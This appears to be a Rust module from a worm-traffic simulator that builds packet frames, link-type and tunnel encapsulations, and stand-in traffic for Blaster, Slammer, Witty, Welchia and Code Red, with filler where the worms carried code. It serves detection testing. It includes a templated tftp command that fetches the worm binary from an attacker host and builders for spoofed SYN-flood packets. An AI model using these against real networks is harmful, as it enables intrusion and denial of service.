//! Building frames: generic Ethernet/IPv4/TCP/UDP/ICMP frames with correct
//! checksums (etherparse's `PacketBuilder`), re-framing for other link
//! types, and the worm's *observable* traffic with benign filler.
//!
//! What it is for: captures made in tests, the synthetic capture behind the
//! throughput benchmark ([`crate::synth`]), and later the export of a
//! simulated outbreak as a capture.
//!
//! What it may not touch: the network — nothing here sends a packet, opens
//! a socket or knows an interface. And no worm code: where Blaster carried
//! code or exploit bytes, these builders put benign filler (repeated ASCII
//! letters, zeros, 0xAA as Welchia's echo data is described). The DCE/RPC
//! request is a simplified stand-in ([`crate::dcerpc::activation_stub`]) that
//! carries a long run of 'A' where a detector measures a server name.
//! Nothing is copied from the worm or from exploit code.

use std::net::Ipv4Addr;

use etherparse::{IpHeaders, Ipv4Extensions, Ipv4Header, PacketBuilder};

use crate::capture::LinkType;
use crate::dcerpc;
use crate::decode::tcp_flags;
use crate::tftp;

/// A host as the builders need it: MAC and IPv4 address.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub struct Station {
    /// Ethernet address.
    pub mac: [u8; 6],
    /// IPv4 address.
    pub ip: Ipv4Addr,
}

impl Station {
    /// A host whose MAC is derived from its address (locally administered).
    pub fn new(ip: Ipv4Addr) -> Station {
        let o = ip.octets();
        Station {
            mac: [0x02, 0x00, o[0], o[1], o[2], o[3]],
            ip,
        }
    }
}

/// IP-level options of a built packet.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct IpOpts {
    /// Time to live.
    pub ttl: u8,
    /// Identification.
    pub ident: u16,
}

impl Default for IpOpts {
    fn default() -> Self {
        // 128: the Windows default of the era.
        IpOpts {
            ttl: 128,
            ident: 0x1234,
        }
    }
}

fn ip(src: &Station, dst: &Station, o: IpOpts) -> IpHeaders {
    let mut h = Ipv4Header::new(
        0,
        o.ttl,
        etherparse::IpNumber::TCP,
        src.ip.octets(),
        dst.ip.octets(),
    )
    .unwrap_or_default();
    h.identification = o.ident;
    IpHeaders::Ipv4(h, Ipv4Extensions::default())
}

/// A TCP segment's parameters.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct TcpParams {
    /// Source port.
    pub src_port: u16,
    /// Destination port.
    pub dst_port: u16,
    /// Sequence number.
    pub seq: u32,
    /// Acknowledgment number (used when `flags` has ACK).
    pub ack: u32,
    /// Flags (see [`tcp_flags`]).
    pub flags: u8,
    /// Window.
    pub window: u16,
}

/// An Ethernet/IPv4/TCP frame with correct checksums.
pub fn tcp_frame(src: &Station, dst: &Station, o: IpOpts, t: TcpParams, payload: &[u8]) -> Vec<u8> {
    let mut b = PacketBuilder::ethernet2(src.mac, dst.mac)
        .ip(ip(src, dst, o))
        .tcp(t.src_port, t.dst_port, t.seq, t.window);
    if t.flags & tcp_flags::SYN != 0 {
        b = b.syn();
    }
    if t.flags & tcp_flags::ACK != 0 {
        b = b.ack(t.ack);
    }
    if t.flags & tcp_flags::RST != 0 {
        b = b.rst();
    }
    if t.flags & tcp_flags::FIN != 0 {
        b = b.fin();
    }
    if t.flags & tcp_flags::PSH != 0 {
        b = b.psh();
    }
    let mut out = Vec::with_capacity(b.size(payload.len()));
    // Writing into a Vec cannot fail; a payload too large for IPv4 is the
    // only error, and the builders here never make one.
    let _ = b.write(&mut out, payload);
    out
}

/// An Ethernet/IPv4/UDP frame with correct checksums.
pub fn udp_frame(
    src: &Station,
    dst: &Station,
    o: IpOpts,
    src_port: u16,
    dst_port: u16,
    payload: &[u8],
) -> Vec<u8> {
    let b = PacketBuilder::ethernet2(src.mac, dst.mac)
        .ip(ip(src, dst, o))
        .udp(src_port, dst_port);
    let mut out = Vec::with_capacity(b.size(payload.len()));
    let _ = b.write(&mut out, payload);
    out
}

/// An Ethernet/IPv4/ICMP echo request with correct checksums.
pub fn icmp_echo_frame(
    src: &Station,
    dst: &Station,
    o: IpOpts,
    id: u16,
    seq: u16,
    data: &[u8],
) -> Vec<u8> {
    let b = PacketBuilder::ethernet2(src.mac, dst.mac)
        .ip(ip(src, dst, o))
        .icmpv4_echo_request(id, seq);
    let mut out = Vec::with_capacity(b.size(data.len()));
    let _ = b.write(&mut out, data);
    out
}

/// An Ethernet/IPv4/ICMP echo reply with correct checksums.
pub fn icmp_echo_reply_frame(
    src: &Station,
    dst: &Station,
    o: IpOpts,
    id: u16,
    seq: u16,
    data: &[u8],
) -> Vec<u8> {
    let b = PacketBuilder::ethernet2(src.mac, dst.mac)
        .ip(ip(src, dst, o))
        .icmpv4_echo_reply(id, seq);
    let mut out = Vec::with_capacity(b.size(data.len()));
    let _ = b.write(&mut out, data);
    out
}

/// Re-frames an Ethernet II frame (no VLAN tag) of an IPv4 packet for
/// another link type: raw IP, Linux SLL or SLL2 (both "received by us",
/// ARPHRD_ETHER), BSD loopback (as a little-endian host writes it) and
/// OpenBSD's, PPP (with HDLC's address and control bytes), PPPoE, Cisco
/// HDLC, 802.11 ([`wifi_data`]) bare or behind a Prism, radiotap, AVS
/// or PPI header, Token Ring, FDDI, ATM (RFC 1483, SunATM), Frame Relay,
/// ERF, and the log devices enc, pflog, ipnet and NFLOG. Returns the frame
/// unchanged for Ethernet and link types it does not know.
pub fn relink(eth: &[u8], link: LinkType) -> Vec<u8> {
    let Some(payload) = eth.get(14..) else {
        return eth.to_vec();
    };
    let ether_type = [eth[12], eth[13]];
    let src_mac = &eth[6..12];
    let with = |head: &[u8]| [head, payload].concat();
    // LLC/SNAP (RFC 1042) and the frame's Ether type.
    let snap = [0xaa, 0xaa, 0x03, 0, 0, 0, ether_type[0], ether_type[1]];
    match link {
        LinkType::NULL => with(&2u32.to_le_bytes()),
        LinkType::LOOP => with(&2u32.to_be_bytes()),
        LinkType::PPP | LinkType::PPP_HDLC => with(&[0xff, 0x03, 0x00, 0x21]),
        LinkType::PPP_ETHER => with(&pppoe_session_header(payload.len())),
        LinkType::C_HDLC => with(&[0x0f, 0x00, ether_type[0], ether_type[1]]),
        LinkType::IEEE802_11 => wifi_data(eth),
        LinkType::IEEE802_11_PRISM => [&[0u8; 144][..], &wifi_data(eth)].concat(),
        // Radiotap: version 0, its length (9), the Flags field present
        // (bit 1), the flags (none).
        LinkType::IEEE802_11_RADIOTAP => {
            [&[0, 0, 9, 0, 2, 0, 0, 0, 0][..], &wifi_data(eth)].concat()
        }
        // AVS: its magic and version, its length (64), the rest zero.
        LinkType::IEEE802_11_AVS => {
            let mut head = [0u8; 64];
            head[..8].copy_from_slice(&[0x80, 0x21, 0x10, 0x01, 0, 0, 0, 64]);
            [&head[..], &wifi_data(eth)].concat()
        }
        // PPI: version 0, flags 0, length 8, the link type 802.11.
        LinkType::PPI => [&[0, 0, 8, 0, 105, 0, 0, 0][..], &wifi_data(eth)].concat(),
        // Token Ring: access control, an LLC frame, the addresses (the
        // source's routing bit set: a routing field of two bytes).
        LinkType::IEEE802_5 => {
            let mut src = [0u8; 6];
            src.copy_from_slice(src_mac);
            src[0] |= 0x80;
            [
                &[0x10, 0x40][..],
                &eth[..6],
                &src,
                &[0x02, 0x00],
                &snap,
                payload,
            ]
            .concat()
        }
        // FDDI: an asynchronous LLC frame, the addresses.
        LinkType::FDDI => [&[0x50][..], &eth[..12], &snap, payload].concat(),
        LinkType::ATM_RFC1483 => with(&snap),
        // SunATM: LLC traffic on VPI 0, VCI 32.
        LinkType::SUNATM => [&[0x02, 0x00, 0x00, 0x20][..], &snap, payload].concat(),
        // Frame Relay: DLCI 16, a UI frame, IP's NLPID (RFC 2427).
        LinkType::FRELAY => with(&[0x04, 0x01, 0x03, 0xcc]),
        // ENC: AF_INET in network order, an SPI, flags (authenticated).
        LinkType::ENC => with(&[0, 0, 0, 2, 0, 0, 0x10, 0x01, 0, 0, 0, 2]),
        LinkType::PFLOG => {
            // Length 61 (padded to 64), AF_INET, dropped by rule 3 on em0
            // going in.
            let mut head = [0u8; 64];
            head[..4].copy_from_slice(&[61, 2, 1, 0]);
            head[4..7].copy_from_slice(b"em0");
            head[36..40].copy_from_slice(&3u32.to_be_bytes());
            head[60] = 1;
            with(&head)
        }
        LinkType::ERF => {
            // An Ethernet record with its frame check sequence, as DAG
            // cards capture it: variable length; the record's and the
            // wire's lengths; offset and pad.
            let wire = eth.len() + 4;
            let mut head = Vec::with_capacity(18);
            head.extend_from_slice(&0u64.to_le_bytes());
            head.extend_from_slice(&[2, 0x04]);
            head.extend_from_slice(&((18 + wire).min(0xffff) as u16).to_be_bytes());
            head.extend_from_slice(&0u16.to_be_bytes());
            head.extend_from_slice(&(wire.min(0xffff) as u16).to_be_bytes());
            head.extend_from_slice(&[0, 0]);
            [&head[..], eth, &crc32fast::hash(eth).to_le_bytes()].concat()
        }
        LinkType::IPNET => {
            // Version 1, AF_INET, the packet's length, interface 1.
            let mut head = [0u8; 24];
            head[..2].copy_from_slice(&[1, 2]);
            head[4..8].copy_from_slice(&(payload.len() as u32).to_be_bytes());
            head[8..12].copy_from_slice(&1u32.to_be_bytes());
            with(&head)
        }
        LinkType::NFLOG => {
            // AF_INET, version 0, group 5; a prefix attribute, then the
            // packet, as a little-endian host logs them.
            let prefix = b"drop 135\0";
            let mut out = vec![2, 0, 0, 5];
            for (kind, value) in [(10u16, &prefix[..]), (9, payload)] {
                let len = (4 + value.len()).min(0xffff);
                out.extend_from_slice(&(len as u16).to_le_bytes());
                out.extend_from_slice(&kind.to_le_bytes());
                out.extend_from_slice(value);
                out.resize(out.len().next_multiple_of(4), 0);
            }
            out
        }
        LinkType::RAW | LinkType::DLT_RAW_12 | LinkType::DLT_RAW_14 | LinkType::IPV4 => {
            payload.to_vec()
        }
        LinkType::LINUX_SLL => {
            let mut out = Vec::with_capacity(16 + payload.len());
            out.extend_from_slice(&0u16.to_be_bytes()); // packet type: to us
            out.extend_from_slice(&1u16.to_be_bytes()); // ARPHRD_ETHER
            out.extend_from_slice(&6u16.to_be_bytes()); // address length
            out.extend_from_slice(src_mac);
            out.extend_from_slice(&[0, 0]);
            out.extend_from_slice(&ether_type);
            out.extend_from_slice(payload);
            out
        }
        LinkType::LINUX_SLL2 => {
            let mut out = Vec::with_capacity(20 + payload.len());
            out.extend_from_slice(&ether_type);
            out.extend_from_slice(&[0, 0]); // reserved
            out.extend_from_slice(&2u32.to_be_bytes()); // interface index
            out.extend_from_slice(&1u16.to_be_bytes()); // ARPHRD_ETHER
            out.push(0); // packet type: to us
            out.push(6); // address length
            out.extend_from_slice(src_mac);
            out.extend_from_slice(&[0, 0]);
            out.extend_from_slice(payload);
            out
        }
        _ => eth.to_vec(),
    }
}

/// The Ethernet frame `eth` as an 802.11 data frame from the distribution
/// system (an access point to a station): frame control (data, FromDS),
/// duration, the destination, the access point (the source's MAC here),
/// the source, sequence control; then LLC/SNAP (RFC 1042) and the Ether
/// type.
pub fn wifi_data(eth: &[u8]) -> Vec<u8> {
    let Some(payload) = eth.get(14..) else {
        return eth.to_vec();
    };
    let (dst, src) = (&eth[..6], &eth[6..12]);
    [
        &[0x08, 0x02, 0, 0][..],
        dst,
        src,
        src,
        &[0x10, 0x00],
        &[0xaa, 0xaa, 0x03, 0, 0, 0],
        &eth[12..14],
        payload,
    ]
    .concat()
}

/// A PPPoE session header (RFC 2516: version and type 1, code 0, session
/// 1) and the PPP protocol field for IPv4, before `ip_len` bytes of packet.
fn pppoe_session_header(ip_len: usize) -> [u8; 8] {
    let len = (ip_len + 2).min(usize::from(u16::MAX)) as u16;
    let [a, b] = len.to_be_bytes();
    [0x11, 0x00, 0x00, 0x01, a, b, 0x00, 0x21]
}

/// An Ethernet II frame of an IPv4 packet carried in a PPPoE session
/// instead (Ether type 0x8864), as a DSL access network's capture shows it.
pub fn in_pppoe(eth: &[u8]) -> Vec<u8> {
    let Some(payload) = eth.get(14..) else {
        return eth.to_vec();
    };
    [
        &eth[..12],
        &[0x88, 0x64],
        &pppoe_session_header(payload.len()),
        payload,
    ]
    .concat()
}

/// An Ethernet II frame of an IPv4 packet carried under MPLS `labels`
/// instead (Ether type 0x8847, the last label the bottom of the stack, TTL
/// 64), as a provider's core link shows it.
pub fn in_mpls(eth: &[u8], labels: &[u32]) -> Vec<u8> {
    let Some(payload) = eth.get(14..) else {
        return eth.to_vec();
    };
    let mut out = [&eth[..12], &[0x88, 0x47][..]].concat();
    for (i, &label) in labels.iter().enumerate() {
        let bottom = u32::from(i + 1 == labels.len());
        out.extend_from_slice(&((label & 0xf_ffff) << 12 | bottom << 8 | 64).to_be_bytes());
    }
    out.extend_from_slice(payload);
    out
}

/// How a tunnel carries a frame (see [`in_tunnel`]).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Tunnel {
    /// IP in IP (protocol 4): the IPv4 packet alone.
    IpInIp,
    /// GRE with protocol type IPv4, and a key.
    GreIp,
    /// GRE carrying the Ethernet frame (transparent bridging, 0x6558).
    GreEthernet,
    /// ERSPAN type I: GRE 0x88be without a sequence number or header.
    ErspanI,
    /// ERSPAN type II: GRE 0x88be with a sequence number, an 8-byte header.
    ErspanII,
    /// ERSPAN type III (GRE 0x22eb): a 12-byte header and the optional
    /// 8-byte platform subheader.
    ErspanIII,
    /// VXLAN: UDP to 4789, an 8-byte header with VNI 42.
    Vxlan,
    /// Geneve: UDP to 6081, bridged Ethernet, VNI 42 and one 8-byte
    /// option.
    Geneve,
    /// MPLS in GRE (RFC 4023): GRE 0x8847, one label (16).
    GreMpls,
    /// IPv4 in IPv6 (RFC 2473, as DS-Lite carries it): an IPv6 header
    /// between the endpoints (their IPv4 addresses under 2001:db8::/96),
    /// next header 4.
    Ipv4InIpv6,
}

impl Tunnel {
    /// Every tunnel, in declaration order.
    pub const ALL: [Tunnel; 10] = [
        Tunnel::IpInIp,
        Tunnel::GreIp,
        Tunnel::GreEthernet,
        Tunnel::ErspanI,
        Tunnel::ErspanII,
        Tunnel::ErspanIII,
        Tunnel::Vxlan,
        Tunnel::Geneve,
        Tunnel::GreMpls,
        Tunnel::Ipv4InIpv6,
    ];
}

/// The Ethernet/IPv4 frame `eth` carried through `tunnel` from endpoint
/// `from` to `to`, as a mirrored or encapsulated link shows it (a new
/// Ethernet/IPv4 frame between the endpoints).
pub fn in_tunnel(eth: &[u8], tunnel: Tunnel, from: &Station, to: &Station) -> Vec<u8> {
    let Some(ip_packet) = eth.get(14..) else {
        return eth.to_vec();
    };
    let gre = |flags: u8, protocol: u16, extra: &[u8], inner: &[u8]| {
        let [p0, p1] = protocol.to_be_bytes();
        [&[flags, 0, p0, p1][..], extra, inner].concat()
    };
    let (protocol, payload) = match tunnel {
        Tunnel::IpInIp => (etherparse::IpNumber::IPV4, ip_packet.to_vec()),
        Tunnel::GreIp => (
            etherparse::IpNumber::GRE,
            gre(0x20, 0x0800, &7u32.to_be_bytes(), ip_packet),
        ),
        Tunnel::GreEthernet => (etherparse::IpNumber::GRE, gre(0, 0x6558, &[], eth)),
        Tunnel::ErspanI => (etherparse::IpNumber::GRE, gre(0, 0x88be, &[], eth)),
        Tunnel::ErspanII => {
            // Sequence number; then version 1, VLAN 0, session 5, index 0.
            let header = [0, 0, 0, 9, 0x10, 0x00, 0x00, 0x05, 0, 0, 0, 0];
            (etherparse::IpNumber::GRE, gre(0x10, 0x88be, &header, eth))
        }
        Tunnel::ErspanIII => {
            // Sequence number; version 2 header with the O bit (the last)
            // set; then the platform subheader.
            let mut header = vec![0, 0, 0, 9];
            header.extend_from_slice(&[0x20, 0x00, 0x00, 0x05, 0, 0, 0, 1, 0, 0, 0, 0x01]);
            header.extend_from_slice(&[0x08, 0, 0, 0, 0, 0, 0, 0]);
            (etherparse::IpNumber::GRE, gre(0x10, 0x22eb, &header, eth))
        }
        Tunnel::Vxlan => {
            let inner = [&[0x08, 0, 0, 0, 0, 0, 42, 0][..], eth].concat();
            return udp_frame(from, to, IpOpts::default(), 49_152, 4789, &inner);
        }
        Tunnel::Geneve => {
            // Version 0 and 2 words of options; Ethernet; VNI 42; an
            // option (class 0x0103, type 1, 1 word of data).
            let header = [0x02, 0, 0x65, 0x58, 0, 0, 42, 0];
            let option = [0x01, 0x03, 0x01, 0x01, 0, 0, 0, 7];
            let inner = [&header[..], &option, eth].concat();
            return udp_frame(from, to, IpOpts::default(), 49_152, 6081, &inner);
        }
        Tunnel::GreMpls => {
            // Label 16, bottom of the stack, TTL 64.
            let label = [0x00, 0x01, 0x01, 64];
            (etherparse::IpNumber::GRE, gre(0, 0x8847, &label, ip_packet))
        }
        Tunnel::Ipv4InIpv6 => {
            let v6 = |s: &Station| {
                let mut a = [0u8; 16];
                a[..4].copy_from_slice(&[0x20, 0x01, 0x0d, 0xb8]);
                a[12..].copy_from_slice(&s.ip.octets());
                a
            };
            let b = PacketBuilder::ethernet2(from.mac, to.mac).ipv6(v6(from), v6(to), 64);
            let mut out = Vec::with_capacity(b.size(ip_packet.len()));
            let _ = b.write(&mut out, etherparse::IpNumber::IPV4, ip_packet);
            return out;
        }
    };
    let b = PacketBuilder::ethernet2(from.mac, to.mac).ip(ip(from, to, IpOpts::default()));
    let mut out = Vec::with_capacity(b.size(payload.len()));
    let _ = b.write(&mut out, protocol, &payload);
    out
}

/// Inserts an 802.1Q tag (TPID 0x8100) with VLAN id `vid` after the MAC
/// addresses; call twice with `tpid` 0x88a8 outside for QinQ.
pub fn add_vlan(eth: &[u8], tpid: u16, vid: u16) -> Vec<u8> {
    if eth.len() < 14 {
        return eth.to_vec();
    }
    let mut out = Vec::with_capacity(eth.len() + 4);
    out.extend_from_slice(&eth[..12]);
    out.extend_from_slice(&tpid.to_be_bytes());
    out.extend_from_slice(&(vid & 0x0fff).to_be_bytes());
    out.extend_from_slice(&eth[12..]);
    out
}

/// A TCP connection between two hosts, tracking sequence numbers so that
/// its frames form a consistent session.
#[derive(Clone, Debug)]
pub struct TcpFlow {
    /// The side that opens.
    pub client: Station,
    /// The side that listens.
    pub server: Station,
    /// Client port.
    pub client_port: u16,
    /// Server port.
    pub server_port: u16,
    /// Next client sequence number.
    pub client_seq: u32,
    /// Next server sequence number.
    pub server_seq: u32,
    /// Window advertised by both sides.
    pub window: u16,
}

impl TcpFlow {
    /// A flow with fixed initial sequence numbers.
    pub fn new(client: Station, client_port: u16, server: Station, server_port: u16) -> TcpFlow {
        TcpFlow {
            client,
            server,
            client_port,
            server_port,
            client_seq: 0x1000_0000 ^ u32::from(client_port),
            server_seq: 0x2000_0000 ^ u32::from(server_port),
            window: 64240,
        }
    }

    fn c2s(&mut self, flags: u8, payload: &[u8]) -> Vec<u8> {
        let t = TcpParams {
            src_port: self.client_port,
            dst_port: self.server_port,
            seq: self.client_seq,
            ack: self.server_seq,
            flags,
            window: self.window,
        };
        let f = tcp_frame(&self.client, &self.server, IpOpts::default(), t, payload);
        let syn_fin = u32::from(flags & (tcp_flags::SYN | tcp_flags::FIN) != 0);
        self.client_seq = self.client_seq.wrapping_add(payload.len() as u32 + syn_fin);
        f
    }

    fn s2c(&mut self, flags: u8, payload: &[u8]) -> Vec<u8> {
        let t = TcpParams {
            src_port: self.server_port,
            dst_port: self.client_port,
            seq: self.server_seq,
            ack: self.client_seq,
            flags,
            window: self.window,
        };
        let f = tcp_frame(&self.server, &self.client, IpOpts::default(), t, payload);
        let syn_fin = u32::from(flags & (tcp_flags::SYN | tcp_flags::FIN) != 0);
        self.server_seq = self.server_seq.wrapping_add(payload.len() as u32 + syn_fin);
        f
    }

    /// The client's SYN.
    pub fn syn(&mut self) -> Vec<u8> {
        self.c2s(tcp_flags::SYN, &[])
    }
    /// The server's SYN-ACK.
    pub fn syn_ack(&mut self) -> Vec<u8> {
        self.s2c(tcp_flags::SYN | tcp_flags::ACK, &[])
    }
    /// The server's RST-ACK refusing the connection.
    pub fn refuse(&mut self) -> Vec<u8> {
        self.s2c(tcp_flags::RST | tcp_flags::ACK, &[])
    }
    /// The three-way handshake: SYN, SYN-ACK, ACK.
    pub fn handshake(&mut self) -> Vec<Vec<u8>> {
        let a = self.syn();
        let b = self.syn_ack();
        let c = self.c2s(tcp_flags::ACK, &[]);
        vec![a, b, c]
    }
    /// Data from client to server (PSH-ACK).
    pub fn client_data(&mut self, payload: &[u8]) -> Vec<u8> {
        self.c2s(tcp_flags::PSH | tcp_flags::ACK, payload)
    }
    /// Data from server to client (PSH-ACK).
    pub fn server_data(&mut self, payload: &[u8]) -> Vec<u8> {
        self.s2c(tcp_flags::PSH | tcp_flags::ACK, payload)
    }
    /// A bare ACK from the client.
    pub fn client_ack(&mut self) -> Vec<u8> {
        self.c2s(tcp_flags::ACK, &[])
    }
    /// A bare ACK from the server.
    pub fn server_ack(&mut self) -> Vec<u8> {
        self.s2c(tcp_flags::ACK, &[])
    }
    /// Client FIN, server FIN, client ACK.
    pub fn close(&mut self) -> Vec<Vec<u8>> {
        let a = self.c2s(tcp_flags::FIN | tcp_flags::ACK, &[]);
        let b = self.s2c(tcp_flags::FIN | tcp_flags::ACK, &[]);
        let c = self.c2s(tcp_flags::ACK, &[]);
        vec![a, b, c]
    }
}

/// The worm's observable traffic, with benign filler where it carried code.
pub mod worm {
    use super::*;

    /// The worm's file names: msblast.exe and the variants' names (MODEL.md
    /// section 1). Lower case.
    pub const WORM_FILENAMES: [&str; 5] = [
        "msblast.exe",
        "penis32.exe",
        "teekids.exe",
        "mslaugh.exe",
        "enbiei.exe",
    ];

    /// Size of msblast.exe (MODEL.md section 1, SANS): a TFTP transfer of
    /// this many bytes is 12 full blocks and a last block of 32.
    pub const MSBLAST_SIZE: usize = 6176;

    /// The filler byte used where the worm carried code.
    pub const FILLER: u8 = b'A';

    /// A probe: a SYN to 135/tcp (the first packet of each of the worm's
    /// connection attempts). Plain SYN, window 64240, TTL 128.
    pub fn probe_syn(attacker: &Station, target: &Station, src_port: u16, seq: u32) -> Vec<u8> {
        tcp_frame(
            attacker,
            target,
            IpOpts::default(),
            TcpParams {
                src_port,
                dst_port: 135,
                seq,
                ack: 0,
                flags: tcp_flags::SYN,
                window: 64240,
            },
            &[],
        )
    }

    /// The DCE/RPC bind to ISystemActivator, as PDU bytes (TCP payload).
    pub fn dcerpc_bind(call_id: u32) -> Vec<u8> {
        dcerpc::bind_isystemactivator(call_id).to_bytes()
    }

    /// A DCE/RPC request whose stub holds a UNC path with an overlong
    /// server-name component made of `name_chars` filler letters ('A').
    /// Benign: the bytes are letters and zeros, not code, and the stub is a
    /// simplified stand-in, not a DCOM activation.
    pub fn dcerpc_overlong_request(call_id: u32, name_chars: usize) -> Vec<u8> {
        let name: String = std::iter::repeat_n(FILLER as char, name_chars).collect();
        dcerpc_request_with_path(call_id, &format!("\\\\{name}\\c$\\file.txt"))
    }

    /// A DCE/RPC request carrying an ordinary path (legitimate activation
    /// traffic in the negative tests).
    pub fn dcerpc_request_with_path(call_id: u32, path: &str) -> Vec<u8> {
        let stub = dcerpc::activation_stub(path);
        dcerpc::Repr::Request {
            call_id,
            alloc_hint: stub.len() as u32,
            context_id: 0,
            opnum: dcerpc::ACTIVATION_OPNUM,
            stub: &stub,
        }
        .to_bytes()
    }

    /// The command line the attacker types into the victim's shell on
    /// 4444/tcp (MODEL.md section 1, step 3), plain text.
    pub fn tftp_command(attacker: Ipv4Addr, filename: &str) -> String {
        format!("tftp -i {attacker} GET {filename}\n")
    }

    /// A Windows command-shell banner, as a shell on 4444/tcp greets the
    /// connecting side (plain text, what the ET "cmd banner" id refers to).
    pub const CMD_BANNER: &str = "Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>";

    /// A TFTP read request for `filename` in mode octet (UDP payload).
    pub fn tftp_rrq(filename: &str) -> Vec<u8> {
        tftp::Repr::ReadRequest {
            filename: filename.as_bytes(),
            mode: b"octet",
        }
        .to_bytes()
    }

    /// A TFTP DATA packet of block `block` holding `len` (at most 512)
    /// filler bytes (UDP payload).
    pub fn tftp_data(block: u16, len: usize) -> Vec<u8> {
        let filler = vec![FILLER; len.min(tftp::BLOCK_SIZE)];
        tftp::Repr::Data {
            block,
            data: &filler,
        }
        .to_bytes()
    }

    /// A TFTP ACK (UDP payload).
    pub fn tftp_ack(block: u16) -> Vec<u8> {
        tftp::Repr::Ack { block }.to_bytes()
    }

    /// One SYN of the payload's flood (MODEL.md section 1): 40 bytes of
    /// IPv4+TCP (no options), to port 80, source port in 1000-1999, TTL 128,
    /// window 16384; the source is spoofed (the caller picks an address in
    /// the sender's own /16).
    pub fn flood_syn(
        sender_mac: [u8; 6],
        gateway_mac: [u8; 6],
        spoofed_src: Ipv4Addr,
        target: Ipv4Addr,
        src_port: u16,
        seq: u32,
    ) -> Vec<u8> {
        let target = Station {
            mac: gateway_mac,
            ip: target,
        };
        spoofed_syn(
            sender_mac,
            spoofed_src,
            &target,
            (1000 + src_port % 1000, 80),
            seq,
            40,
        )
    }

    /// One SYN of a spoofed flood (Blaster's, [`flood_syn`], or any worm's
    /// `[payload]` with `spoofed_sources`): from `spoofed_src`, sent by
    /// the host with `sender_mac`, to `target` on `ports`, TTL 128, window
    /// 16384, carrying `packet_bytes - 40` zero bytes (none for the 40 of
    /// a bare SYN), so that its IPv4 packet is `packet_bytes` long. `seq`
    /// is its sequence number, and its low bits the IPv4 identification.
    pub fn spoofed_syn(
        sender_mac: [u8; 6],
        spoofed_src: Ipv4Addr,
        target: &Station,
        ports: (u16, u16),
        seq: u32,
        packet_bytes: u32,
    ) -> Vec<u8> {
        let src = Station {
            mac: sender_mac,
            ip: spoofed_src,
        };
        tcp_frame(
            &src,
            target,
            IpOpts {
                ttl: 128,
                ident: seq as u16,
            },
            TcpParams {
                src_port: ports.0,
                dst_port: ports.1,
                seq,
                ack: 0,
                flags: tcp_flags::SYN,
                window: 16384,
            },
            &vec![0; packet_bytes.saturating_sub(40) as usize],
        )
    }

    /// Welchia's echo data: 64 bytes of 0xAA. MODEL.md says "92-byte
    /// packets, 0xAA payload"; we read 92 as the IP datagram's total length
    /// (a packet is the datagram), so 92 = 20 (IPv4 header) + 8 (ICMP echo
    /// header) + 64 bytes of 0xAA data.
    pub const WELCHIA_DATA_LEN: usize = 64;
    /// The IP total length of a Welchia echo request.
    pub const WELCHIA_IP_LEN: u16 = 92;

    /// One ICMP echo request of Welchia's sweep (92-byte datagram, 0xAA
    /// data).
    pub fn welchia_echo(src: &Station, dst: &Station, id: u16, seq: u16) -> Vec<u8> {
        icmp_echo_frame(
            src,
            dst,
            IpOpts::default(),
            id,
            seq,
            &[0xAA; WELCHIA_DATA_LEN],
        )
    }

    /// Slammer's port: "a single 376-byte UDP payload to port 1434"
    /// (MODEL.md section 2), the SQL Server Resolution Service.
    pub const SLAMMER_PORT: u16 = 1434;
    /// Slammer's UDP payload length (MODEL.md section 2: "a single 376-byte
    /// UDP payload"); with the UDP and IPv4 headers a 404-byte datagram,
    /// the scenario's `packet_bytes`.
    pub const SLAMMER_PAYLOAD_LEN: usize = 376;
    /// The first byte of Slammer's payload: 0x04, the request type of the
    /// SQL Server Resolution Service that the worm's datagram claimed to be.
    /// The only byte kept; the rest is filler.
    pub const SLAMMER_REQUEST_TYPE: u8 = 0x04;

    /// One datagram of Slammer (MODEL.md section 2): from `src_port` to
    /// `dst_port` ([`SLAMMER_PORT`] for the worm), a payload of
    /// `payload_len` bytes ([`SLAMMER_PAYLOAD_LEN`] for the worm): the
    /// request type [`SLAMMER_REQUEST_TYPE`], then [`FILLER`]. Benign: no
    /// byte of the worm but the first. `ident` is the IPv4 identification.
    pub fn slammer_datagram(
        src: &Station,
        dst: &Station,
        src_port: u16,
        dst_port: u16,
        payload_len: usize,
        ident: u16,
    ) -> Vec<u8> {
        let mut payload = vec![FILLER; payload_len];
        if let Some(first) = payload.first_mut() {
            *first = SLAMMER_REQUEST_TYPE;
        }
        let o = IpOpts {
            ident,
            ..IpOpts::default()
        };
        udp_frame(src, dst, o, src_port, dst_port, &payload)
    }

    /// Witty's source port (MODEL.md section 2: "one UDP datagram from
    /// source port 4000", the ICQ port whose packets the vulnerable
    /// ISS BlackICE/RealSecure parser read).
    pub const WITTY_SRC_PORT: u16 = 4000;
    /// The lengths of Witty's UDP payload (MODEL.md section 2: "random
    /// destination port, 768-1307 bytes"); a capture draws one uniformly
    /// per datagram.
    pub const WITTY_PAYLOAD_LEN: std::ops::RangeInclusive<usize> = 768..=1307;

    /// One datagram of Witty (MODEL.md section 2): from `src_port`
    /// ([`WITTY_SRC_PORT`] for the worm) to a random `dst_port`, a payload
    /// of `payload_len` bytes (in [`WITTY_PAYLOAD_LEN`] for the worm) of
    /// [`FILLER`] only: nothing of the worm's ICQ header or code. `ident`
    /// is the IPv4 identification.
    pub fn witty_datagram(
        src: &Station,
        dst: &Station,
        src_port: u16,
        dst_port: u16,
        payload_len: usize,
        ident: u16,
    ) -> Vec<u8> {
        let o = IpOpts {
            ident,
            ..IpOpts::default()
        };
        udp_frame(src, dst, o, src_port, dst_port, &vec![FILLER; payload_len])
    }

    /// Code Red v2's port: it scanned "IPv4 on TCP 80" (MODEL.md section 2),
    /// web servers.
    pub const CODERED_PORT: u16 = 80;
    /// Length of the run of 'N' after `GET /default.ida?` in the stand-in
    /// request. ASSUMPTION: the worm's request (its length and its encoded
    /// part) is not reproduced; 256 letters is long enough that a
    /// detector's "long run of filler after default.ida?" matches, and is
    /// not the worm's length.
    pub const CODERED_FILLER_LEN: usize = 256;
    /// The filler letter of the stand-in request: Code Red v1 and v2
    /// filled the query with 'N' (CERT CA-2001-19; Code Red II used 'X',
    /// CA-2001-23), which is how a detector tells them apart.
    pub const CODERED_FILLER: u8 = b'N';

    /// The client's HTTP request of a Code Red v2 connection, a benign
    /// stand-in: `GET /default.ida?`, [`CODERED_FILLER_LEN`] letters 'N',
    /// ` HTTP/1.0`, an empty line. No encoded part, no code.
    pub fn codered_request() -> Vec<u8> {
